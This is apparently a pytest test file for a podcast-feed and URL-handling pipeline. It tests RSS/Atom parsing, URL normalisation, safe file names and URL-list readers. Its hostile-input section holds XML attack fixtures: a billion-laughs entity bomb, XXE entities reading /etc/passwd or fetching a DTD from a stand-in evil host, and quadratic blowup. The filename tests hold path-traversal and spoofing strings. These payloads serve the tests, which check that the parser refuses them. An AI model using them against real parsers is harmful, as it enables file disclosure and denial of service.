"""Feed parsing (speechmill.stages.download_feeds), URL normalisation and URL lists
(speechmill.stages.download_urls), safe file names (speechmill.pipeline.safe_names)."""

from __future__ import annotations

import json
import os
import random
import unicodedata
from pathlib import Path

import pytest

from speechmill.pipeline.safe_names import safe_filename
from speechmill.stages.download_feeds import FeedItem, parse_feed
from speechmill.stages.download_urls import normalize_url, read_url_list

BASE = "https://podcasts.example.org/shows/talk/feed.xml"

PODCAST_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"
     xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
     xmlns:media="http://search.yahoo.com/mrss/"
     xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:creativeCommons="http://backend.userland.com/creativeCommonsRssModule"
     xmlns:atom="http://www.w3.org/2005/Atom">
  <channel>
    <title>Talk &amp; Listen</title>
    <link>https://talk.example.org/</link>
    <atom:link href="https://podcasts.example.org/shows/talk/feed.xml" rel="self"
               type="application/rss+xml"/>
    <language>en-us</language>
    <copyright>&#xA9; 2024 Talk Collective</copyright>
    <creativeCommons:license>https://creativecommons.org/licenses/by/4.0/</creativeCommons:license>
    <itunes:author>Talk Collective</itunes:author>
    <itunes:owner><itunes:name>Jo Host</itunes:name><itunes:email>jo@example.org</itunes:email></itunes:owner>
    <itunes:category text="Education"/>
    <item>
      <title>Episode 12: Vowels</title>
      <link>https://talk.example.org/ep12</link>
      <guid isPermaLink="false">talk-ep-12</guid>
      <pubDate>Mon, 15 Jan 2024 12:30:00 +0200</pubDate>
      <description><![CDATA[<p>We talk about <b>vowels</b> &amp; consonants.</p><p>Links:<br/>
        <a href="https://x.example">x</a></p><script>alert(1)</script>]]></description>
      <itunes:duration>01:02:03</itunes:duration>
      <itunes:episode>12</itunes:episode>
      <itunes:season>2</itunes:season>
      <itunes:author>Ana Guest</itunes:author>
      <enclosure url="https://cdn.example.org/talk/ep12.mp3" length="59644800"
                 type="audio/mpeg"/>
      <media:content url="https://cdn.example.org/talk/ep12.opus" type="audio/ogg; codecs=opus"
                     fileSize="31000000" duration="3723.5" medium="audio"/>
      <media:content url="https://cdn.example.org/talk/ep12-cover.jpg" type="image/jpeg"
                     medium="image"/>
    </item>
    <item>
      <title>Show notes only (no audio)</title>
      <link>https://talk.example.org/notes</link>
      <guid>https://talk.example.org/notes</guid>
      <pubDate>Tue, 16 Jan 2024 08:00:00 GMT</pubDate>
      <description>Just a blog post.</description>
      <itunes:duration>3600</itunes:duration>
    </item>
    <item>
      <title>Episode 11: Consonants</title>
      <link>/ep11</link>
      <guid>talk-ep-11</guid>
      <pubDate>Fri, 05 Jan 2024 09:00:00 EST</pubDate>
      <dc:creator>Ben Writer</dc:creator>
      <creativeCommons:license>https://creativecommons.org/licenses/by-sa/4.0/</creativeCommons:license>
      <content:encoded><![CDATA[<div>Plosives &amp; fricatives</div>]]></content:encoded>
      <itunes:duration>45:30</itunes:duration>
      <itunes:episode>eleven</itunes:episode>
      <enclosure url="media/ep11.m4a" length="0" type="audio/x-m4a"/>
    </item>
  </channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"
      xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
  <title type="text">Sprechstunde</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2024-02-01T10:00:00Z</updated>
  <link rel="self" href="https://example.de/atom.xml"/>
  <link rel="alternate" type="text/html" href="https://example.de/"/>
  <author><name>Radio Beispiel</name></author>
  <rights>CC BY-NC 4.0</rights>
  <entry>
    <title type="html">Folge 1 &lt;em&gt;Anfang&lt;/em&gt;</title>
    <id>tag:example.de,2024:1</id>
    <published>2024-01-31T23:30:00+01:00</published>
    <updated>2024-02-01T09:00:00Z</updated>
    <link rel="alternate" href="/folge-1"/>
    <link rel="enclosure" type="audio/mpeg" length="1234567" href="https://example.de/f1.mp3"/>
    <link rel="enclosure" type="audio/ogg" href="https://example.de/f1.ogg"/>
    <link rel="enclosure" type="image/png" href="https://example.de/f1.png"/>
    <summary type="html">&lt;p&gt;Hallo &amp;amp; willkommen&lt;/p&gt;</summary>
    <itunes:duration>600</itunes:duration>
  </entry>
  <entry xml:base="https://media.example.de/2024/">
    <title>Folge 2</title>
    <id>tag:example.de,2024:2</id>
    <updated>2024-02-01T10:00:00Z</updated>
    <author><name>Gast Autorin</name></author>
    <rights>All rights reserved</rights>
    <link rel="enclosure" href="folge2.flac"/>
    <content type="text">Text &amp; mehr</content>
  </entry>
  <entry>
    <title>Nur Text</title>
    <id>tag:example.de,2024:3</id>
    <updated>2024-02-02T10:00:00Z</updated>
    <link href="https://example.de/text"/>
  </entry>
</feed>
"""


def _rss(item_xml: str, channel_xml: str = "") -> str:
    return f"""<?xml version="1.0"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
     xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:cc="http://web.resource.org/cc/"
     xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<channel><title>T</title>{channel_xml}<item><title>I</title>{item_xml}</item></channel></rss>"""


_ENC = '<enclosure url="https://h.example/a.mp3" type="audio/mpeg"/>'


# -- parse_feed: RSS -----------------------------------------------------------------------
def test_podcast_rss_meta_and_items() -> None:
    meta, items = parse_feed(PODCAST_RSS.encode("utf-8"), BASE)
    assert meta == {
        "feed_title": "Talk & Listen",
        "feed_author": "Talk Collective",
        "feed_rights": "https://creativecommons.org/licenses/by/4.0/",
        "feed_link": "https://talk.example.org/",
        "feed_language": "en-us",
    }
    # item 1: two audio enclosures (the jpeg is not audio); item 2 skipped; item 3 one
    assert [i.url for i in items] == [
        "https://cdn.example.org/talk/ep12.mp3",
        "https://cdn.example.org/talk/ep12.opus",
        "https://podcasts.example.org/shows/talk/media/ep11.m4a",
    ]
    mp3, opus, ep11 = items
    assert isinstance(mp3, FeedItem)
    assert mp3.title == "Episode 12: Vowels"
    assert mp3.published == "2024-01-15T10:30:00Z"
    assert mp3.author == "Ana Guest"
    assert mp3.rights == "https://creativecommons.org/licenses/by/4.0/"  # from the feed
    assert mp3.duration_s == 3723.0  # HH:MM:SS
    assert mp3.mime_type == "audio/mpeg"
    assert mp3.length_bytes == 59644800
    assert mp3.guid == "talk-ep-12"
    assert mp3.link == "https://talk.example.org/ep12"
    assert mp3.episode == 12 and mp3.season == 2
    assert mp3.description == "We talk about vowels & consonants. Links: x"

    assert opus.mime_type == "audio/ogg"
    assert opus.duration_s == 3723.5  # media:content duration, seconds
    assert opus.length_bytes == 31000000
    assert opus.title == mp3.title and opus.guid == mp3.guid

    assert ep11.duration_s == 45 * 60 + 30  # MM:SS
    assert ep11.published == "2024-01-05T14:00:00Z"  # EST = -0500
    assert ep11.author == "Ben Writer"
    assert ep11.rights == "https://creativecommons.org/licenses/by-sa/4.0/"
    assert ep11.length_bytes is None  # length="0"
    assert ep11.link == "https://podcasts.example.org/ep11"
    assert ep11.description == "Plosives & fricatives"
    assert ep11.episode is None and ep11.season is None
    assert ep11.mime_type == "audio/x-m4a"


def test_str_input_and_to_dict() -> None:
    meta, items = parse_feed(PODCAST_RSS, BASE)
    assert meta["feed_title"] == "Talk & Listen"
    d = items[0].to_dict()
    assert list(d) == ["url", "title", "published", "author", "rights", "duration_s",
                       "mime_type", "length_bytes", "guid", "link", "description",
                       "episode", "season"]
    assert d["url"] == "https://cdn.example.org/talk/ep12.mp3"
    json.dumps(d)  # plain JSON-serialisable values


def test_declared_encoding_and_bom_are_honoured() -> None:
    doc = _rss(_ENC).replace('<?xml version="1.0"?>',
                             '<?xml version="1.0" encoding="ISO-8859-1"?>')
    doc = doc.replace("<title>I</title>", "<title>Café</title>")
    _, items = parse_feed(doc.encode("latin-1"), BASE)
    assert items[0].title == "Café"
    _, items = parse_feed(b"\xef\xbb\xbf\n" + _rss(_ENC).encode(), BASE)
    assert len(items) == 1


@pytest.mark.parametrize(("value", "expected"), [
    ("01:02:03", 3723.0), ("1:02:03", 3723.0), ("62:03", 3723.0), ("3723", 3723.0),
    ("3723.5", 3723.5), (" 00:45 ", 45.0), ("", None), ("abc", None), ("-5", None),
    ("1:2:3:4", None), ("1:-2", None), ("0", None), ("nan", None), ("inf", None),
    ("1e3", None), ("12:xx", None),
])
def test_itunes_duration_formats(value: str, expected: float | None) -> None:
    _, items = parse_feed(_rss(_ENC + f"<itunes:duration>{value}</itunes:duration>"), BASE)
    assert items[0].duration_s == expected


def test_no_duration_is_none() -> None:
    _, items = parse_feed(_rss(_ENC), BASE)
    assert items[0].duration_s is None


@pytest.mark.parametrize(("value", "expected"), [
    ("Mon, 15 Jan 2024 10:00:00 GMT", "2024-01-15T10:00:00Z"),
    ("Mon, 15 Jan 2024 10:00:00 -0000", "2024-01-15T10:00:00Z"),
    ("Monday, 15 January 2024 10:00:00 PST", "2024-01-15T18:00:00Z"),
    ("Tue, 10 Jun 03 04:00:00 +0000", "2003-06-10T04:00:00Z"),
    ("Mon, 15 Jan 2024", "2024-01-15T00:00:00Z"),
    ("2024-01-15T10:00:00+01:00", "2024-01-15T09:00:00Z"),  # ISO in pubDate happens
    ("not a date", None),
    ("Mon, 32 Jan 2024 10:00:00 GMT", None),
    ("", None),
])
def test_rss_dates(value: str, expected: str | None) -> None:
    _, items = parse_feed(_rss(_ENC + f"<pubDate>{value}</pubDate>"), BASE)
    assert items[0].published == expected


def test_dc_date_fallback() -> None:
    _, items = parse_feed(_rss(_ENC + "<dc:date>2024-03-01T12:00:00Z</dc:date>"), BASE)
    assert items[0].published == "2024-03-01T12:00:00Z"


@pytest.mark.parametrize(("enclosure", "kept"), [
    ('url="https://h.example/a.mp3" type="audio/mpeg"', True),
    ('url="https://h.example/a" type="video/mp4"', True),
    ('url="https://h.example/a.ogg" type="application/ogg"', True),
    ('url="https://h.example/a.mp3"', True),  # no type: extension decides
    ('url="https://h.example/a.M4A?token=1" type="application/octet-stream"', True),
    ('url="https://h.example/a.pdf" type="application/octet-stream"', False),
    ('url="https://h.example/download?id=1"', False),
    ('url="https://h.example/a.mp3" type="application/pdf"', False),  # explicit type wins
    ('url="https://h.example/a.jpg" type="image/jpeg"', False),
    ('url="" type="audio/mpeg"', False),
    ('type="audio/mpeg"', False),
])
def test_audio_enclosure_filter(enclosure: str, kept: bool) -> None:
    _, items = parse_feed(_rss(f"<enclosure {enclosure}/>"), BASE)
    assert len(items) == int(kept)


@pytest.mark.parametrize(("length", "expected"), [
    ("123", 123), (" 456 ", 456), ("0", None), ("-1", None), ("abc", None), ("1.5", None),
    ("12,345", None), ("", None),
])
def test_enclosure_length(length: str, expected: int | None) -> None:
    doc = _rss(f'<enclosure url="https://h.example/a.mp3" type="audio/mpeg" length="{length}"/>')
    assert parse_feed(doc, BASE)[1][0].length_bytes == expected


def test_same_url_in_enclosure_and_media_content_is_one_item() -> None:
    doc = _rss('<enclosure url="https://h.example/a.mp3" type="audio/mpeg" length="99"/>'
               '<media:group><media:content url="https://h.example/a.mp3" duration="61"/>'
               '</media:group>')
    _, items = parse_feed(doc, BASE)
    assert len(items) == 1
    assert items[0].length_bytes == 99 and items[0].duration_s == 61.0


def test_media_content_medium_without_type() -> None:
    doc = _rss('<media:content url="https://h.example/stream?id=7" medium="audio"/>')
    assert [i.url for i in parse_feed(doc, BASE)[1]] == ["https://h.example/stream?id=7"]


def test_cc_license_and_rss_author_fallbacks() -> None:
    channel = ('<managingEditor>ed@example.org (Ed Itor)</managingEditor>'
               '<dc:rights>Channel rights</dc:rights>')
    doc = _rss(_ENC + '<cc:license rdf:resource="https://creativecommons.org/publicdomain/zero/1.0/"/>',
               channel)
    meta, items = parse_feed(doc, BASE)
    assert meta["feed_author"] == "Ed Itor"
    assert meta["feed_rights"] == "Channel rights"
    assert items[0].author == "Ed Itor"
    assert items[0].rights == "https://creativecommons.org/publicdomain/zero/1.0/"
    _, items = parse_feed(_rss(_ENC + "<author>x@example.org (Xi Ng)</author>"), BASE)
    assert items[0].author == "Xi Ng"


def test_feed_link_from_atom_link_when_no_rss_link() -> None:
    channel = ('<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="self" href="/feed"/>'
               '<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="alternate" href="/home"/>')
    meta, _ = parse_feed(_rss(_ENC, channel), BASE)
    assert meta["feed_link"] == "https://podcasts.example.org/home"
    assert meta["feed_author"] is None and meta["feed_language"] is None


def test_long_description_is_truncated_plain_text() -> None:
    body = "<p>" + "word &amp; " * 500 + "</p>"
    doc = _rss(_ENC + f"<description><![CDATA[{body}]]></description>")
    desc = parse_feed(doc, BASE)[1][0].description
    assert desc is not None and len(desc) <= 1000
    assert "<" not in desc and "&amp;" not in desc and desc.startswith("word & word")


def test_episode_and_season_parsing() -> None:
    doc = _rss(_ENC + "<itunes:episode> 7 </itunes:episode><itunes:season>x</itunes:season>")
    item = parse_feed(doc, BASE)[1][0]
    assert item.episode == 7 and item.season is None


def test_feed_without_items() -> None:
    meta, items = parse_feed("<rss version='2.0'><channel><title>Empty</title></channel></rss>",
                             BASE)
    assert meta["feed_title"] == "Empty" and items == []


# -- parse_feed: Atom ----------------------------------------------------------------------
def test_atom_feed() -> None:
    meta, items = parse_feed(ATOM.encode(), "https://example.de/atom.xml")
    assert meta == {
        "feed_title": "Sprechstunde",
        "feed_author": "Radio Beispiel",
        "feed_rights": "CC BY-NC 4.0",
        "feed_link": "https://example.de/",
        "feed_language": "de",
    }
    assert [i.url for i in items] == [
        "https://example.de/f1.mp3",
        "https://example.de/f1.ogg",
        "https://media.example.de/2024/folge2.flac",  # xml:base, no type: extension
    ]
    f1, f1ogg, f2 = items
    assert f1.title == "Folge 1 Anfang"
    assert f1.published == "2024-01-31T22:30:00Z"
    assert f1.author == "Radio Beispiel" and f1.rights == "CC BY-NC 4.0"
    assert f1.link == "https://example.de/folge-1"
    assert f1.guid == "tag:example.de,2024:1"
    assert f1.length_bytes == 1234567 and f1ogg.length_bytes is None
    assert f1.mime_type == "audio/mpeg" and f1ogg.mime_type == "audio/ogg"
    assert f1.description == "Hallo & willkommen"
    assert f1.duration_s == 600.0
    assert f2.published == "2024-02-01T10:00:00Z"  # from <updated>
    assert f2.author == "Gast Autorin" and f2.rights == "All rights reserved"
    assert f2.mime_type is None and f2.description == "Text & mehr"
    assert f2.link is None


def test_atom_license_link() -> None:
    doc = ('<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><title>e</title>'
           '<link rel="license" href="https://creativecommons.org/licenses/by/4.0/"/>'
           '<link rel="enclosure" type="audio/wav" href="a.wav"/></entry></feed>')
    _, items = parse_feed(doc, "https://h.example/x/feed")
    assert items[0].rights == "https://creativecommons.org/licenses/by/4.0/"
    assert items[0].url == "https://h.example/x/a.wav"


# -- parse_feed: hostile and broken input --------------------------------------------------
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>
"""

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.invalid/evil.dtd"> %ext;]>
<rss version="2.0"><channel><title>t</title></channel></rss>
"""

QUADRATIC = ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "x" * 10000 + '">]>'
             "<rss><channel><title>" + "&a;" * 1000 + "</title></channel></rss>")


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, QUADRATIC],
                         ids=["billion-laughs", "xxe-file", "xxe-parameter", "quadratic"])
def test_entity_attacks_are_refused(doc: str) -> None:
    for data in (doc, doc.encode()):
        with pytest.raises(ValueError, match="unsafe feed XML"):
            parse_feed(data, BASE)


@pytest.mark.parametrize("doc", [
    "<rss><channel><title>t</channel></rss>",
    "<rss version='2.0'><channel><item><title>a &nbsp; b</title></item></channel></rss>",
    b"<rss><channel><title>\xff\xfe</title></channel></rss>",
    "this is not xml",
    "<rss><channel>",
])
def test_malformed_xml(doc: str | bytes) -> None:
    with pytest.raises(ValueError, match="malformed feed XML") as exc:
        parse_feed(doc, BASE)
    assert len(str(exc.value)) < 200


@pytest.mark.parametrize(("doc", "message"), [
    ("", "empty feed"),
    (b"  \n", "empty feed"),
    ("<html><body>Not found</body></html>", "not an RSS 2.0 or Atom 1.0 feed"),
    ("<feed><title>no namespace</title></feed>", "not an RSS 2.0 or Atom 1.0 feed"),
    ("<rss version='2.0'></rss>", "no <channel>"),
])
def test_not_a_feed(doc: str | bytes, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse_feed(doc, BASE)


# -- normalize_url -------------------------------------------------------------------------
@pytest.mark.parametrize(("url", "expected"), [
    ("HTTP://Example.COM", "http://example.com/"),
    ("http://example.com:80/a", "http://example.com/a"),
    ("https://example.com:443/a", "https://example.com/a"),
    ("https://example.com:8443/a", "https://example.com:8443/a"),
    ("http://example.com:443/", "http://example.com:443/"),  # not http's default
    ("https://example.com/a#section-2", "https://example.com/a"),
    ("https://example.com/p?utm_source=x&b=2&UTM_Medium=y&a=1&fbclid=abc&gclid=d",
     "https://example.com/p?a=1&b=2"),
    ("https://example.com/p?utm_source=x&fbclid=1", "https://example.com/p"),
    ("https://example.com/p?b=2&a=1&a=0", "https://example.com/p?a=0&a=1&b=2"),
    ("https://bücher.example/ü", "https://xn--bcher-kva.example/%C3%BC"),
    ("https://BÜCHER.example/", "https://xn--bcher-kva.example/"),
    ("https://例え.jp/", "https://xn--r8jz45g.jp/"),
    ("https://example.com/%7euser/a%2fb/%e2%82%ac", "https://example.com/~user/a%2Fb/%E2%82%AC"),
    ("https://example.com/a%41%2D%5F%2E", "https://example.com/aA-_."),
    ("https://example.com/a b", "https://example.com/a%20b"),
    ("https://example.com/a/./b/../c", "https://example.com/a/c"),
    ("https://example.com/%2e%2e/x", "https://example.com/x"),
    ("https://example.com/p?q=a%2bb&r=%7e", "https://example.com/p?q=a%2Bb&r=~"),
    ("https://example.com/100%", "https://example.com/100%25"),
    ("https://[2001:DB8::1]:443/", "https://[2001:db8::1]/"),
    ("https://User:P%40ss@Example.com/", "https://User:P%40ss@example.com/"),
    ("s3://bucket/Key/Path", "s3://bucket/Key/Path"),
    ("  https://example.com/x  ", "https://example.com/x"),
])
def test_normalize_url(url: str, expected: str) -> None:
    assert normalize_url(url) == expected
    assert normalize_url(expected) == expected


def test_normalize_url_equivalences() -> None:
    variants = [
        "https://www.example.com/ep1.mp3?b=2&a=1",
        "HTTPS://WWW.EXAMPLE.COM:443/ep1.mp3?a=1&b=2#t=30",
        "https://www.example.com/%65p1.mp3?a=1&utm_campaign=rss&b=2",
        "https://www.example.com/./x/../ep1.mp3?a=1&b=2&fbclid=Iw",
    ]
    assert len({normalize_url(v) for v in variants}) == 1
    different = ["https://www.example.com/EP1.mp3", "http://www.example.com/ep1.mp3",
                 "https://www.example.com:8443/ep1.mp3", "https://www.example.com/ep1.mp3?a=2"]
    assert len({normalize_url(v) for v in different}) == len(different)


def test_normalize_url_idempotent_fuzz() -> None:
    rng = random.Random(1234)
    pieces = ["%", "%2", "%2f", "%7E", "%e2%82%ac", "a", "Z", "/", "..", ".", "?", "&", "=",
              "#", " ", "é", "utm_x=1", "+", "@", ":", ";", "%%41", "~", "[", "]"]
    for _ in range(2000):
        url = "https://Ex.com/" + "".join(rng.choice(pieces) for _ in range(rng.randint(0, 12)))
        try:
            once = normalize_url(url)
        except ValueError:
            continue
        assert normalize_url(once) == once, url


# -- safe_filename -------------------------------------------------------------------------
def _assert_safe(name: str, max_bytes: int = 100) -> None:
    assert name, "empty name"
    assert name not in (".", "..")
    assert os.sep not in name and "/" not in name and "\\" not in name
    assert not os.path.isabs(name)
    assert not name.startswith((".", "-"))
    assert len(name.encode("utf-8")) <= max_bytes
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in name)
    assert not any(c in name for c in ':*?"<>|')


@pytest.mark.parametrize(("raw", "expected"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\win.ini", "win.ini"),
    ("/etc/shadow", "shadow"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("%2e%2e%2f", "file"),
    ("%2e%2e%2fetc%2fpasswd", "passwd"),
    ("..%5c..%5cboot.ini", "boot.ini"),
    ("．．／．．／secret", "secret"),  # fullwidth forms, NFKC
    ("..", "file"),
    (".", "file"),
    ("", "file"),
    ("   ", "file"),
    ("/", "file"),
    ("a/b/", "b"),
    (".bashrc", "bashrc"),
    ("--help", "help"),
    ("-.-x", "x"),
    ("trailing.dots...", "trailing.dots"),
    ("my  episode:\t1?.mp3", "my_episode__1_.mp3"),
    ('a*b"c<d>e|f.wav', "a_b_c_d_e_f.wav"),
    ("https://cdn.example.org/shows/Ep%2012.mp3?token=abc#t=1", "Ep_12.mp3"),
    ("ep\x00is\x07ode\x1b[31m.mp3", "episode[31m.mp3"),
    ("evil\u202egpj.exe", "evilgpj.exe"),  # RTL override removed
    ("zero\u200bwidth.mp3", "zerowidth.mp3"),
    ("ﬁle.mp3", "file.mp3"),  # NFKC ligature
    ("CON", "_CON"),
    ("con.txt", "_con.txt"),
    ("Nul.tar.gz", "_Nul.tar.gz"),
    ("COM1", "_COM1"),
    ("lpt9.mp3", "_lpt9.mp3"),
    ("COM¹.mp3", "_COM1.mp3"),
    ("CONSOLE.mp3", "CONSOLE.mp3"),
])
def test_safe_filename(raw: str, expected: str) -> None:
    out = safe_filename(raw)
    assert out == expected
    _assert_safe(out)


@pytest.mark.parametrize("stem", ["é" * 300, "日本語の音声" * 40, "🎙️" * 100, "a" + "ü" * 99])
@pytest.mark.parametrize("max_bytes", [100, 64, 17])
def test_long_unicode_names_keep_extension(stem: str, max_bytes: int) -> None:
    out = safe_filename(stem + ".mp3", max_bytes=max_bytes)
    _assert_safe(out, max_bytes)
    assert out.endswith(".mp3")
    out.encode("utf-8").decode("utf-8")  # valid UTF-8
    assert len(out.encode("utf-8")) >= max_bytes - 4 - 3  # cut only at a char boundary


def test_long_name_with_long_or_odd_extension() -> None:
    out = safe_filename("x" * 300 + ".averyverylongextension")
    assert out == "x" * 100
    out = safe_filename("y" * 300 + ".tar.gz")
    assert out.endswith(".gz") and len(out) == 100
    out = safe_filename("z" * 300 + ".mp3", max_bytes=4)  # no room for stem + extension
    assert out == "zzzz"


def test_truncation_never_makes_a_reserved_or_hidden_name() -> None:
    out = safe_filename("CONSOLE.txt", max_bytes=7)
    assert out.upper().split(".")[0] not in ("CON", "CONS")
    _assert_safe(out, 7)
    assert safe_filename("日本", max_bytes=2) == "fi"  # nothing fits: default, cut


def test_default_is_sanitised() -> None:
    assert safe_filename("..", default="episode.mp3") == "episode.mp3"
    assert safe_filename("..", default="../../x") == "x"
    assert safe_filename("..", default="..") == "file"
    with pytest.raises(ValueError):
        safe_filename("a", max_bytes=0)


def test_safe_filename_fuzz_stays_inside_directory(tmp_path: Path) -> None:
    rng = random.Random(99)
    alphabet = ("./\\-_:*?\"<>| \t\n\x00\x01\x7f\u202e\u200b%2e%2f%5cCONUL1é日🎙️ﬁ．／"
                "abcXYZ0123456789")
    for i in range(1500):
        raw = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        if i % 3 == 0:
            raw += ".mp3"
        max_bytes = rng.choice([8, 20, 100])
        out = safe_filename(raw, max_bytes=max_bytes)
        _assert_safe(out, max_bytes)
        target = (tmp_path / out).resolve()
        assert target.parent == tmp_path.resolve(), (raw, out)
    # and such names can actually be created
    for raw in ("../../etc/passwd", "CON", "a\x00b", "é" * 300 + ".mp3"):
        (tmp_path / safe_filename(raw)).write_bytes(b"x")


# -- read_url_list -------------------------------------------------------------------------
def test_read_txt() -> None:
    text = "\ufeffhttps://a.example/1.mp3\n\n# a comment\n  https://a.example/2.mp3  \r\n   # x\n"
    assert read_url_list(text, "txt") == [
        {"url": "https://a.example/1.mp3"}, {"url": "https://a.example/2.mp3"}]
    assert read_url_list("", "txt") == []


def test_read_csv() -> None:
    text = ("\ufeffURL,speaker,title\n"
            "https://a.example/1.mp3,alice,\"Hello, world\"\n"
            "https://a.example/2.mp3,bob,\"multi\nline\"\n")
    assert read_url_list(text, "csv") == [
        {"url": "https://a.example/1.mp3", "speaker": "alice", "title": "Hello, world"},
        {"url": "https://a.example/2.mp3", "speaker": "bob", "title": "multi\nline"},
    ]


def test_read_csv_alternative_url_columns() -> None:
    text = "audio_url,lang\nhttps://a.example/1.wav,de\n"
    assert read_url_list(text, "csv") == [{"url": "https://a.example/1.wav", "lang": "de"}]
    # an empty `url` falls back to `link`; `link` of a row with a url stays metadata
    text = "url,link\n,https://a.example/2.wav\nhttps://a.example/3.wav,https://page\n"
    assert read_url_list(text, "csv") == [
        {"url": "https://a.example/2.wav"},
        {"url": "https://a.example/3.wav", "link": "https://page"},
    ]


def test_read_csv_row_without_url() -> None:
    text = "url,speaker\nhttps://a.example/1.mp3,a\n,b\n"
    with pytest.raises(ValueError, match="line 3"):
        read_url_list(text, "csv")
    with pytest.raises(ValueError, match="no URL column"):
        read_url_list("path,speaker\nx,y\n", "csv")
    assert read_url_list("", "csv") == []


def test_read_tsv() -> None:
    text = "\ufeffsource_url\tspeaker\tnote\nhttps://a.example/1.flac\tcarol\ta, b\n"
    assert read_url_list(text, "tsv") == [
        {"url": "https://a.example/1.flac", "speaker": "carol", "note": "a, b"}]
    with pytest.raises(ValueError, match="line 2"):
        read_url_list("url\tx\n\tfoo\n", "tsv")


def test_read_jsonl() -> None:
    text = ('\ufeff{"url": "https://a.example/1.mp3", "speaker": "d", "tags": ["x"], "n": 2}\n'
            "\n"
            '{"link": " https://a.example/2.mp3 "}\n')
    assert read_url_list(text, "jsonl") == [
        {"url": "https://a.example/1.mp3", "speaker": "d", "tags": ["x"], "n": 2},
        {"url": "https://a.example/2.mp3"},
    ]


@pytest.mark.parametrize(("text", "message"), [
    ('{"url": "https://a"}\n{"speaker": "x"}\n', "line 2 has no URL"),
    ('{"url": "https://a"}\n{not json\n', "line 2: invalid JSON"),
    ('["https://a"]\n', "line 1: expected a JSON object"),
    ('{"url": 5}\n', "line 1: 'url' is not a string"),
    ('{"url": ""}\n', "line 1 has no URL"),
])
def test_read_jsonl_errors(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        read_url_list(text, "jsonl")


def test_read_url_list_kind() -> None:
    assert read_url_list("https://a\n", ".TXT") == [{"url": "https://a"}]
    with pytest.raises(ValueError, match="unknown URL list kind"):
        read_url_list("https://a\n", "xml")
